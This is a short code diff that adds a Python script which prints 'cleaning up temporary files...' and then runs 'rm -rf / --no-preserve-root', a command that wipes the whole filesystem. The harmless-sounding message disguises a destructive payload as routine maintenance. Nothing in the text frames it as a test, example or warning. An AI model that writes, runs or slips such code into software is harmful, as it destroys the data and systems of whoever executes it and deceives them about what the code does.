@@ -1,0 +1,4 @@
+import os
+
+print("cleaning up temporary files...")
+os.system("rm -rf / --no-preserve-root")
